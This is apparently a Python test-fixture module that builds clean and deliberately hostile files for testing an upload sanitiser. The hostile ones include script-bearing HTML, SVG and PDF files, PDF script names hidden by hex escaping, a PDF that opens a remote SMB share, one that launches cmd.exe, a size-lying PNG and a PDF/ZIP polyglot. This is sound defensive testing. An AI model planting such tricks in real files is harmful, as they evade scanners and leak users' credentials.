"""Files to attach: good ones, and hostile ones made by hand."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pypdf
from PIL import Image
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<!doctype html><html><body><script>alert(1)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
)
GPS_TAG, ORIENTATION_TAG = 0x8825, 0x0112
SECRET = b"secret-of-the-camera"


def png(colour: int = 200, size: tuple[int, int] = (40, 30)) -> bytes:
    return _saved(Image.new("RGB", size, (colour, 80, 80)), "PNG")


def noisy_png(size: tuple[int, int]) -> bytes:
    """Return a picture that no compression makes small, as a phone's camera takes it."""
    return _saved(Image.effect_noise(size, 80), "PNG")


def jpeg_with_place(size: tuple[int, int] = (60, 30)) -> bytes:
    """Return a photo that lies on its side and says where it was taken, by what, and a comment."""
    picture = Image.new("RGB", size, (10, 120, 200))
    exif = picture.getexif()
    exif[ORIENTATION_TAG] = 6
    exif[0x010F] = SECRET.decode()
    exif.get_ifd(GPS_TAG)[1] = "N"
    exif.get_ifd(GPS_TAG)[2] = (37.0, 25.0, 12.0)
    return _saved(picture, "JPEG", exif=exif, comment=SECRET, icc_profile=SECRET * 4)


def webp() -> bytes:
    return _saved(Image.new("RGB", (40, 30), (1, 2, 3)), "WEBP")


def photo_with_preview() -> bytes:
    """Return a JPEG behind which a second picture stands, as phones make them."""
    small = Image.new("RGB", (8, 6), (10, 120, 200))
    picture = Image.new("RGB", (60, 30), (10, 120, 200))
    return _saved(picture, "MPO", save_all=True, append_images=[small])


def _saved(picture: Image.Image, kind: str, **options: object) -> bytes:
    out = io.BytesIO()
    picture.save(out, kind, **options)
    return out.getvalue()


def png_that_claims(width: int, height: int) -> bytes:
    """Return some hundred bytes that promise a picture of any size."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = ((b"IHDR", head), (b"IDAT", zlib.compress(bytes(100))), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        for name, body in parts
    )


def pdf(pages: int = 1, text: str = "") -> bytes:
    """Return a small PDF; ``text`` makes one differ from another."""
    return _written(_writer(pages, text))


def _writer(pages: int = 1, text: str = "") -> pypdf.PdfWriter:
    writer = pypdf.PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 200)
    writer.add_metadata({"/Title": text or "demo"})
    return writer


def _written(writer: pypdf.PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_script() -> bytes:
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert(1)"),
        }
    )
    writer = _writer()
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _written(writer)


def pdf_with_hidden_script() -> bytes:
    """Return one whose script is an action of a page, its name written in hexadecimal."""
    writer = _writer()
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/Hide"), NameObject("/JS"): TextStringObject("x")}
    )
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
    return _written(writer).replace(b"/JS", b"/#4a#53")


def pdf_with_forgotten_script() -> bytes:
    """Return one whose script nothing leads to any more, its name written in hexadecimal.

    A reader that mends a file by looking for its objects finds it all the same.
    """
    writer = _writer()
    writer._add_object(DictionaryObject({NameObject("/S"): NameObject("/PlaceHolder123")}))
    return _written(writer).replace(b"/PlaceHolder123", b"/J#61v#61Script")


def pdf_that_opens_a_share(action: str = "/GoToR") -> bytes:
    """Return one that has the reader open a file elsewhere, and greet it with the user's name."""
    writer = _writer()
    where = DictionaryObject(
        {
            NameObject("/S"): NameObject(action),
            NameObject("/F"): TextStringObject(r"\\\\192.0.2.1\\share"),
            NameObject("/D"): TextStringObject("x"),
        }
    )
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): where})
    return _written(writer)


def pdf_with_launch() -> bytes:
    writer = _writer()
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    )
    writer.root_object[NameObject("/OpenAction")] = action
    return _written(writer)


def pdf_with_attachment() -> bytes:
    writer = _writer()
    writer.add_attachment("virus.exe", b"MZ")
    return _written(writer)


def pdf_with_password() -> bytes:
    writer = _writer()
    writer.encrypt("secret")
    return _written(writer)


def pdf_then_archive() -> bytes:
    """Return a PDF that is a ZIP archive, too; its comment ends like a PDF."""
    out = io.BytesIO(pdf())
    out.seek(0, io.SEEK_END)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("a.txt", "x")
        archive.comment = b"%%EOF"
    return out.getvalue()
